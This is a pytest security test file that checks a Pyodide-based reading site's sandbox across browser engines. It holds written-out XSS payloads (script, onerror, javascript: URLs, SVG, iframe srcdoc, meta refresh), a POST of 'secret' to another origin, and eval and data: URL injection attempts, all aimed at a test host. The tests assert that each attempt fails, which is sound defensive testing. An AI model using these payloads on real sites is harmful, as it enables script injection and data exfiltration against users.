"""What a reader's Python, and what stands in its outputs, can not do: tried in the engines of all browsers."""

import json

import pytest

from tools.site_server import SiteServer

from .engine_reader import WAIT, EngineReader
from .small_site import page_with

PRELUDE = """\
import asyncio, json, js
from js import Object, Reflect
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url, pyfetch

async def opened(source):
    ended = asyncio.get_running_loop().create_future()
    source.onopen = create_proxy(lambda _: ended.done() or ended.set_result(True))
    source.onerror = create_proxy(lambda _: ended.done() or ended.set_result(False))
    if not await ended:
        raise OSError("not opened")

async def fetched(address, **options):
    # Where WebKit refuses, the promise is rejected with something that Pyodide cannot raise, and waits for ever.
    return await asyncio.wait_for(js.fetch(address, to_js(options, dict_converter=Object.fromEntries)), 2)

def inherited(owner, name):
    while owner:
        if Reflect.getOwnPropertyDescriptor(owner, name):
            return owner
        owner = Reflect.getPrototypeOf(owner)
    raise LookupError(name)

def blob(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))

"""
#: What is taken from the worker; the prototypes are looked through as well.
TAKEN = {
    "indexedDB": "js.indexedDB.open('name')",
    "caches": "await js.caches.open('name')",
    "navigator.storage": "await js.navigator.storage.getDirectory()",
    "navigator.locks": "await js.navigator.locks.query()",
    "navigator.serviceWorker": "await js.navigator.serviceWorker.getRegistrations()",
    "BroadcastChannel": "js.BroadcastChannel.new('name')",
    "Worker": "js.Worker.new(blob('0'))",
    "Worker from an address": "js.Worker.new(own)",
    "SharedWorker": "js.SharedWorker.new(own)",
    "cookieStore": "await js.cookieStore.getAll()",
    "webkitRequestFileSystem": "js.webkitRequestFileSystem(0, 1, print)",
    "localStorage": "js.localStorage.setItem('name', 'value')",
    "document": "js.document.cookie",
} | {
    f"{name} of a prototype": f"inherited(js{'.navigator' if name in ('storage', 'locks') else '.globalThis'}, '{name}')"
    for name in ("indexedDB", "caches", "storage", "locks", "BroadcastChannel", "Worker", "SharedWorker")
}
#: What the page's policy refuses.
REFUSED = {
    "fetch": "await fetched(other)",
    "fetch without CORS": "await fetched(other, mode='no-cors')",
    "pyfetch": "await asyncio.wait_for(pyfetch(other), 2)",
    "open_url": "open_url(other).read()",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new(); x.open('POST', other, False); x.send('secret')",
    "WebSocket": "await opened(js.WebSocket.new(other.replace('http', 'ws')))",
    "EventSource": "await opened(js.EventSource.new(other))",
    "importScripts": "js.importScripts(other)",
    "eval": "js.eval('1')",
    "Function": "js.Function.new('return 1')()",
}
ALLOWED = {
    "fetch from the site": "assert (await fetched(own)).ok",
    "pyfetch from the site": "assert (await pyfetch(own)).ok",
    "open_url from the site": "assert open_url(own).read()",
}


def cell_of(attempts, **names):
    """A cell that makes every attempt, and prints how each came out as JSON."""
    code = PRELUDE + "".join(f"{name} = {value!r}\n" for name, value in names.items()) + "outcomes = {}\n"
    for name, attempt in attempts.items():
        code += f"try:\n    {attempt}\n    outcomes[{name!r}] = 'done'\n"
        code += f"except BaseException as error:\n    outcomes[{name!r}] = type(error).__name__\n"
    return code + "print(json.dumps(outcomes))"


@pytest.fixture(scope="module")
def other_host(small_site):
    """Another origin, which any page could fetch from if its policy let it."""
    with SiteServer(small_site) as running:
        yield running


@pytest.fixture(scope="module")
def outcomes(engine, small_site, faulty_server, other_host):
    """How each attempt came out; those that reached the other host say so themselves."""
    attempts = TAKEN | REFUSED | ALLOWED
    names = {"own": f"{faulty_server.url}second/", "other": f"{other_host.url}second/"}
    reader = EngineReader(engine, page_with(small_site, faulty_server, "attempts", cell_of(attempts, **names)))
    other_host.requests.clear()
    found = json.loads(reader.run(1).splitlines()[-1])  # the last output
    faulty_server.instead.clear()
    assert found.keys() == attempts.keys()
    return found | {"requests": list(other_host.requests)}


@pytest.mark.parametrize("attempt", [*TAKEN, *REFUSED])
def test_python_is_refused(outcomes, attempt):
    assert outcomes[attempt] != "done"


def test_no_attempt_has_reached_another_host(outcomes):
    assert outcomes["requests"] == []


@pytest.mark.parametrize("attempt", ALLOWED)
def test_python_can_read_the_site_itself(outcomes, attempt):
    assert outcomes[attempt] == "done"


# What stands in outputs and in pages

#: Each would set `window.pwned`, or ask OTHER for something.
PAYLOADS = [
    "<script>top.pwned = 1; fetch('OTHER')</script>",
    "<img src=x onerror=\"top.pwned = 1; fetch('OTHER')\">",
    "<img src=OTHER>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned = 1'><script>top.pwned = 1</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='OTHER'/><use href='OTHER#a'/></svg>",
    '<a id=click href="javascript:top.pwned = 1">a</a>',
    '<iframe src=OTHER></iframe><iframe srcdoc="<script>top.pwned = 1</script>"></iframe>',
    '<iframe src="javascript:top.pwned = 1"></iframe>',
    "<object data=OTHER></object><embed src=OTHER>",
    "<style>@import 'OTHER'; b { background: url(OTHER) }</style><b style='background: url(OTHER)'>b</b>",
    "<link rel=stylesheet href=OTHER><link rel=preload as=script href=OTHER><script src=OTHER></script>",
    "<form action=OTHER><button>b</button></form>",
    "<base href=OTHER>",
]
SHOW = """\
class Rich:
    def __init__(self, **data): self.data = data
    def _repr_mimebundle_(self, **_): return {k.replace('_', '/').replace('svg', 'svg+xml'): v for k, v in self.data.items()}
for payload in payloads:
    print(payload)
    display(payload)
    display(Rich(text_html=payload))
    display(Rich(text_markdown=payload, text_plain=payload))
    display(Rich(image_svg=payload, text_plain=payload))
    display(Rich(image_png=payload + '" onerror="top.pwned = 1', text_plain=payload))
display(Rich(text_html='<meta http-equiv=refresh content="0;url=' + other + '">'))
"""
#: Give every frame and picture the time to load, or to fail; then follow what a click would follow.
SETTLED = """(async () => {
  for (const link of document.querySelectorAll("main a[href^=javascript]")) link.click();
  for (const frame of document.querySelectorAll("iframe")) frame.scrollIntoView();
  await fetch(location.href);
  await new Promise((done) => setTimeout(done, 300));
  return window.pwned ?? null;
})()"""


def test_outputs_do_nothing(engine, small_site, server, other_host):
    payloads = [payload.replace("OTHER", other_host.url) for payload in PAYLOADS]
    code = f"payloads = {payloads!r}\nother = {other_host.url!r}\n{SHOW}"
    reader = EngineReader(engine, page_with(small_site, server, "outputs", code))
    other_host.requests.clear()
    reader.run(1)
    assert engine.evaluate("document.querySelectorAll('#cell-1 iframe').length") == len(PAYLOADS) + 1
    assert engine.evaluate(SETTLED) is None
    assert other_host.requests == []


def test_texts_of_a_page_do_nothing(engine, small_site, server, other_host):
    """In the place of prose, a prediction, its explanation and an exercise, as if an author had been careless."""
    page = (small_site / "first" / "index.html").read_text("utf-8")
    injected = "".join(PAYLOADS).replace("OTHER", other_host.url)
    for text in ("Before cell 1.", " Down", "Because."):
        assert text in page
        page = page.replace(text, injected)
    server.instead["/first/?texts"] = page.encode()
    other_host.requests.clear()
    EngineReader(engine, f"{server.url}first/?texts")
    assert engine.evaluate(SETTLED) is None
    assert other_host.requests == []


def test_a_part_with_another_content_does_not_run(engine, server):
    server.instead["/offers-"] = b"window.pwned = 1; export function copyLink() {}"
    reader = EngineReader(engine, f"{server.url}first/")
    reader.click(1, "Copy link")
    sentence = "could not be loaded, or its content is not the expected one."
    said = f"document.querySelector('#cell-1').textContent.includes('{sentence}')"
    assert engine.evaluate(f"({WAIT})(() => window.pwned ? 'it ran' : {said} && 'refused')") == "refused"


def test_scripts_cannot_make_code_of_text(engine, server, other_host):
    EngineReader(engine, f"{server.url}first/")
    other_host.requests.clear()
    attempts = [
        "eval('window.pwned = 1')",
        "Function('window.pwned = 1')()",
        "setTimeout('window.pwned = 1')",
        "document.body.setAttribute('onclick', 'window.pwned = 1'), document.body.click()",
        "document.body.append(Object.assign(document.createElement('script'), { text: 'window.pwned = 1' }))",
        f"document.body.append(Object.assign(document.createElement('script'), {{ src: '{other_host.url}' }}))",
        "location.assign('javascript:window.pwned = 1')",
        "import('data:text/javascript,window.pwned = 1')",
        f"new Worker('data:text/javascript,fetch(\"{other_host.url}\")')",
        f"fetch('{other_host.url}')",
        f"navigator.sendBeacon('{other_host.url}')",
    ]
    for attempt in attempts:  # later: while a driver evaluates something, it may allow what the page does not
        later = f"setTimeout(async () => {{ try {{ await ({attempt}) }} catch {{}} finally {{ next() }} }})"
        engine.evaluate(f"new Promise((next) => {later})")
    assert engine.evaluate(SETTLED) is None
    assert other_host.requests == []
